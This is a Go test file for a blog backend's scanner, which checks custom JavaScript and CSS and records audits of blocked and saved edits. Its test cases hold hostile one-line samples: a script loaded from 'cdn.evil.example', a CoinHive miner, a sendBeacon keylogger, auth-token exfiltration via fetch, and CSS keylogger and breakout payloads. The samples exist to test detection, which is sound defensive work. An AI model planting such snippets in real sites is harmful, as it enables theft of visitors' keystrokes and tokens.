@@ -0,0 +1,120 @@
+package services
+
+import (
+	"blog-backend/internal/database"
+	"blog-backend/internal/models"
+	"context"
+	"encoding/json"
+	"testing"
+
+	"gorm.io/gorm"
+)
+
+func TestCustomCodeScan(t *testing.T) {
+	s := &CustomCodeService{
+		allowedHosts: []string{"googletagmanager.com"},
+		siteHost:     func(uint) string { return "blog.example.com" },
+	}
+	tests := []struct {
+		name  string
+		field string
+		code  string
+		rules []string // rules of the findings, in order
+	}{
+		{"plain script", CustomCodeJS, "document.body.classList.add('ready') //console.log(x)", nil},
+		{"allowed host", CustomCodeJS, "var s = document.createElement('script')\ns.src = 'https://www.googletagmanager.com/gtag/js'", nil},
+		{"own host", CustomCodeJS, `import("https://blog.example.com/widget.js")`, nil},
+		{"external script", CustomCodeJS, "var s = document.createElement('script');\ns.src = \"//cdn.evil.example/x.js\";", []string{"external_script"}},
+		{"link only", CustomCodeJS, `var help = "https://docs.example.org/help"`, []string{"external_url"}},
+		{"miner", CustomCodeJS, "var miner = new CoinHive.Anonymous('key');\nminer.start()", []string{"crypto_miner"}},
+		{"keylogger", CustomCodeJS, "document.addEventListener('keydown', e => navigator.sendBeacon('/k', e.key))", []string{"keylogger"}},
+		{"token theft", CustomCodeJS, "fetch('/collect', {method: 'POST', body: localStorage.getItem('auth_token')})", []string{"data_exfiltration"}},
+		{"keys without sending", CustomCodeJS, "document.addEventListener('keydown', e => e.key === '/' && search.focus())", nil},
+		{"eval", CustomCodeJS, `eval(atob("YWxlcnQoMSk="))`, []string{"dynamic_code"}},
+		{"script breakout", CustomCodeJS, "</script><img src=x>", []string{"markup_breakout"}},
+		{"plain css", CustomCodeCSS, "body { color: #333; background: url(/uploads/bg.png) }", nil},
+		{"css import", CustomCodeCSS, "@import url('https://fonts.evil.example/a.css');\nh1 { color: red }", []string{"external_stylesheet", "external_url"}},
+		{"css remote font", CustomCodeCSS, "@font-face { src: url(https://fonts.example.net/f.woff2) }", []string{"external_url"}},
+		{"css keylogger", CustomCodeCSS, "input[type=password][value$=a] { background: url(/log?k=a) }", []string{"css_keylogger"}},
+		{"css expression", CustomCodeCSS, "div { width: expression(alert(1)) }", []string{"css_script"}},
+		{"style breakout", CustomCodeCSS, "</style><script>alert(1)</script>", []string{"markup_breakout"}},
+	}
+	for _, tt := range tests {
+		t.Run(tt.name, func(t *testing.T) {
+			findings := s.Scan(models.DefaultSiteID, tt.field, tt.code)
+			var rules []string
+			for _, finding := range findings {
+				rules = append(rules, finding.Rule)
+				if finding.Field != tt.field || finding.Line < 1 || finding.Message == "" {
+					t.Errorf("finding = %+v", finding)
+				}
+			}
+			if len(rules) != len(tt.rules) {
+				t.Fatalf("rules = %v, want %v", rules, tt.rules)
+			}
+			for i := range rules {
+				if rules[i] != tt.rules[i] {
+					t.Fatalf("rules = %v, want %v", rules, tt.rules)
+				}
+			}
+		})
+	}
+
+	findings := s.Scan(models.DefaultSiteID, CustomCodeJS, "var a = 1\nvar b = 2\ns.src = 'https://x.example/a.js'")
+	if len(findings) != 1 || findings[0].Line != 3 || findings[0].Severity != CustomCodeError {
+		t.Errorf("findings = %+v, want an error on line 3", findings)
+	}
+}
+
+func TestCustomCodeRecord(t *testing.T) {
+	newTestDB(t)
+	s := &CustomCodeService{
+		db:       func() *gorm.DB { return database.DB },
+		siteHost: func(uint) string { return "" },
+	}
+	actor := CustomCodeActor{UserID: 1, IPAddress: "203.0.113.9", UserAgent: "Firefox"}
+
+	review := s.Review(models.DefaultSiteID,
+		CustomCodeEdit{Field: CustomCodeCSS, Previous: "body{}", Code: "body{}"},
+		CustomCodeEdit{Field: CustomCodeJS, Previous: "", Code: "new CoinHive.Anonymous('k').start()"})
+	if len(review.Edits) != 1 || !review.Blocked() {
+		t.Fatalf("review = %+v, want the JavaScript edit blocked and the unchanged CSS left out", review)
+	}
+	if err := s.Record(context.Background(), review, actor, models.CustomCodeRejected); err != nil {
+		t.Fatal(err)
+	}
+
+	review = s.Review(models.DefaultSiteID, CustomCodeEdit{Field: CustomCodeCSS, Previous: "body{}", Code: "h1{color:red}"})
+	if review.Blocked() {
+		t.Fatalf("review = %+v, want harmless CSS saved", review)
+	}
+	if err := s.Record(context.Background(), review, actor, models.CustomCodeSaved); err != nil {
+		t.Fatal(err)
+	}
+	if err := s.Record(context.Background(), s.Review(models.DefaultSiteID), actor, models.CustomCodeSaved); err != nil {
+		t.Fatal(err)
+	}
+
+	audits, err := s.Audits(context.Background(), models.DefaultSiteID, 0)
+	if err != nil || len(audits) != 2 {
+		t.Fatalf("Audits = %d, %v, want 2", len(audits), err)
+	}
+	saved, rejected := audits[0], audits[1]
+	if saved.Field != CustomCodeCSS || saved.Outcome != models.CustomCodeSaved || saved.Content != "h1{color:red}" ||
+		saved.PreviousHash != customCodeHash("body{}") || saved.Findings != "[]" {
+		t.Errorf("saved audit = %+v", saved)
+	}
+	var findings []CustomCodeFinding
+	json.Unmarshal([]byte(rejected.Findings), &findings)
+	if rejected.Outcome != models.CustomCodeRejected || rejected.IPAddress != "203.0.113.9" || rejected.PreviousHash != "" ||
+		len(findings) != 1 || findings[0].Rule != "crypto_miner" {
+		t.Errorf("rejected audit = %+v", rejected)
+	}
+
+	var notifications []models.Notification
+	database.DB.Where("source = ?", models.NotificationSourceSecurity).Order("id").Find(&notifications)
+	if len(notifications) != 2 || notifications[0].Type != "custom_code_rejected" || notifications[0].Severity != models.SeverityWarning ||
+		notifications[1].Type != "custom_code_changed" {
+		t.Errorf("notifications = %+v", notifications)
+	}
+}